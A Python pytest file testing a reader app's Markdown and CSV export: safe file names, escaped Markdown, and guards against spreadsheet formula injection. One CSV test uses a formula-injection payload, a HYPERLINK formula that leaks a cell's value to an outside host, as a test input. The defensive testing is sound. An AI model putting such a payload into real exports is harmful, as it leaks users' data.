"""Export to Markdown (a digest, or a file per article) and to CSV: safe names, inert text,
cells that cannot run as formulas."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reader import Library
from reader.settings import DEFAULT_HIGHLIGHT_COLORS, HighlightColor
from reader.transfer import exporting as exporting_module
from reader.transfer.markdown_notes import escape_line, file_name, slug
from tests.exported_library import build_library


@pytest.fixture()
def built(tmp_path: Path) -> Iterator[tuple[Library, dict[str, int]]]:
    library, ids = build_library(tmp_path)
    yield library, ids
    library.close()


# --- Markdown --------------------------------------------------------------------------------


def _heading_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("#")]


def test_markdown_digest_groups_highlights_and_keeps_text_inert(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    colors = [HighlightColor("red", "Doubtful", "#ff0000"),
              HighlightColor("yellow", "Important", "#ffff00")]
    digest = tmp_path / "notes.md"
    selection = [ids["a"], ids["c"], ids["b"]]
    assert library.transfer.export_markdown(digest, selection, colors=colors).articles == 3
    text = digest.read_text(encoding="utf-8")

    assert _heading_lines(text) == [
        "# Notes and highlights",
        "## Harbour works began on Monday after the winter storms damaged the northern quay.",
        "### Note", "### Highlights", "#### Doubtful", "#### Important",
        "## Markup in the text", "### Note", "### Highlights", "#### green",
        r"## Apples, pears \& \*stars\*",
    ]
    harbour = text[: text.index("## Markup")]
    # Colours in the user's order, each quote followed by its comment.
    assert harbour.index("#### Doubtful") < harbour.index("> reopen in June") < harbour.index(
        "doubtful timetable") < harbour.index("#### Important") < harbour.index(
        "> Harbour works") < harbour.index("> winter storms") < harbour.index("cause of damage")
    assert "- Tags: economy, World/Asia" in harbour
    assert "Check the quay dates.\n\nPeninsula contractor named later." in harbour
    assert "- Date: 2022-09-01\n- Source: The Orchard Times\n- Tags: economy" in text

    tricky = text[text.index("## Markup") : text.index("## Apples")]
    assert "> \\* not a list item\n\n\\# \\*\\*bold?\\*\\*\n" in tricky
    assert "\\# not a heading\\\n\\* not a list\\\n\\<script\\>x()\\</script\\>" in tricky
    assert "<script>" not in text.replace("\\<script\\>", "")
    bullets = [line for line in text.splitlines() if re.match(r"\s*[-*+] ", line)]
    assert all(re.match(r"- (Date|Source|Tags): ", line) for line in bullets)


def test_markdown_folder_has_one_safely_named_file_per_article(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    folder = tmp_path / "notes"
    report = library.transfer.export_markdown(folder, colors=DEFAULT_HIGHLIGHT_COLORS)
    names = sorted(path.name for path in folder.iterdir())
    assert report.articles == len(names) == len(library.article_ids())
    assert f"apples-pears-stars-{ids['b']}.md" in names
    assert all(re.fullmatch(r"[a-z0-9-]+-\d+\.md", name) for name in names)
    page = (folder / f"apples-pears-stars-{ids['b']}.md").read_text(encoding="utf-8")
    assert page.startswith("# Apples, pears \\& \\*stars\\*\n\n- Date: 2022-09-01")


def test_file_names_are_safe_everywhere() -> None:
    assert slug('C:\\Temp\\<con>?: "quoted" / piped|*') == "c-temp-con-quoted-piped"
    assert slug("Ünïcödé Nachrichten — 北朝鮮") == "ünïcödé-nachrichten-北朝鮮"
    assert slug("...") == "article"
    assert len(slug("word " * 100)) <= 60
    assert file_name("CON", 3) == "con-3.md"


def test_escaping_keeps_line_starts_inert() -> None:
    assert escape_line("    # heading") == "\\# heading"
    assert escape_line("- item") == "\\- item"
    assert escape_line("2024. A year") == "2024\\. A year"
    assert escape_line("a_b [link](x) & <b>") == "a\\_b \\[link\\](x) \\& \\<b\\>"


# --- CSV -------------------------------------------------------------------------------------


def test_csv_parses_back_with_the_right_rows(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    path = library.transfer.export_csv(tmp_path / "list.csv").path
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["id", "title", "published", "source", "tags", "read", "starred",
                             "has_note", "highlights", "imported_at", "url", "author"]
    assert [int(row["id"]) for row in rows] == library.article_ids()
    by_id = {int(row["id"]): row for row in rows}
    b, a = by_id[ids["b"]], by_id[ids["a"]]
    assert (b["title"], b["published"], b["source"], b["tags"]) == (
        "Apples, pears & *stars*", "2022-09-01", "The Orchard Times", "economy")
    assert (b["read"], b["starred"], b["has_note"], b["highlights"]) == (
        "true", "true", "false", "0")
    assert (a["tags"], a["has_note"], a["highlights"], a["starred"]) == (
        "economy; World/Asia", "true", "3", "false")
    assert ids["d"] not in by_id  # the list leaves the trash out


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _unguard(cell: str) -> str:
    """A CSV text cell read back as README says: one ``'`` dropped before a formula start."""
    if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_STARTS):
        return cell[1:]
    return cell


def _split_tags(cell: str) -> list[str]:
    """A CSV tags cell read back as README says: ``;;`` is a ``;``, ``; `` ends a name."""
    if not cell:
        return []
    names: list[str] = []
    name: list[str] = []
    at = 0
    while at < len(cell):
        if cell.startswith(";;", at):
            name.append(";")
            at += 2
        elif cell.startswith("; ", at):
            names.append("".join(name))
            name = []
            at += 2
        else:
            name.append(cell[at])
            at += 1
    names.append("".join(name))
    return names


def _csv_rows(library: Library, path: Path) -> dict[int, dict[str, str]]:
    library.transfer.export_csv(path)
    with path.open(encoding="utf-8", newline="") as handle:
        return {int(row["id"]): row for row in csv.DictReader(handle)}


def test_csv_text_cells_cannot_run_as_formulas(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    hyperlink = '=HYPERLINK("http://example.com/?leak="&A1, "Click")'
    library.update_article(ids["a"], title=hyperlink, source="+44 20 7946 0000")
    library.update_article(ids["b"], title="-2 degrees overnight", source="@newsdesk")
    library.update_article(ids["c"], title="'=1+1 is not a formula", source="'Tis the season")
    rows = _csv_rows(library, tmp_path / "list.csv")
    a, b, c = rows[ids["a"]], rows[ids["b"]], rows[ids["c"]]
    assert (a["title"], a["source"]) == ("'" + hyperlink, "'+44 20 7946 0000")
    assert (b["title"], b["source"]) == ("'-2 degrees overnight", "'@newsdesk")
    # Text already quoted before a formula start gets one more quote; other quotes stay.
    assert (c["title"], c["source"]) == ("''=1+1 is not a formula", "'Tis the season")
    for article_id, row in rows.items():
        article = library.article(article_id)
        assert _unguard(row["title"]) == article.title
        assert _unguard(row["source"]) == (article.source or "")
        assert not row["title"].startswith(FORMULA_STARTS)
        assert not row["source"].startswith(FORMULA_STARTS)
        # Ids, dates, flags and counts are written as they are.
        assert row["id"] == str(article.id)
        assert row["published"] == (article.published.isoformat() if article.published else "")
        assert row["imported_at"] == article.imported_at.isoformat()
        assert row["highlights"] == str(len(article.highlights))
        assert row["read"] == ("true" if article.read else "false")


def test_csv_tag_lists_decode_to_the_exact_names(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    tricky = ["a;b", "ends;", ";starts", "semi; colon", "-draft", "=SUM(A1)", "plain"]
    library.add_tags([ids["a"]], tricky)
    library.add_tags([ids["b"]], ["ends;", "b"])  # "ends;" then "b" must not read as "ends" ";b"
    library.add_tags([ids["c"]], ["ends", ";b"])
    rows = _csv_rows(library, tmp_path / "list.csv")
    for article_id, row in rows.items():
        expected = [ref.name for ref in library.article(article_id).tags]
        assert _split_tags(_unguard(row["tags"])) == expected
    assert {tuple(_split_tags(_unguard(rows[ids[key]]["tags"]))) for key in "bc"} == {
        ("b", "economy", "ends;"), (";b", "ends", "World/Asia")}
    assert rows[ids["b"]]["tags"] != rows[ids["c"]]["tags"]
    assert set(tricky) <= set(_split_tags(_unguard(rows[ids["a"]]["tags"])))


_tag_names = st.text(alphabet="ab; -='", min_size=1, max_size=8).map(str.strip).filter(bool)


@given(st.lists(_tag_names, max_size=5), st.text(alphabet="a;' =+-@\t\r", max_size=8))
def test_csv_encodings_always_decode_back(names: list[str], text: str) -> None:
    assert _split_tags(_unguard(exporting_module.csv_text(exporting_module.csv_tags(names)))) == (
        names)
    guarded = exporting_module.csv_text(text)
    assert _unguard(guarded) == text
    assert not guarded.startswith(FORMULA_STARTS)
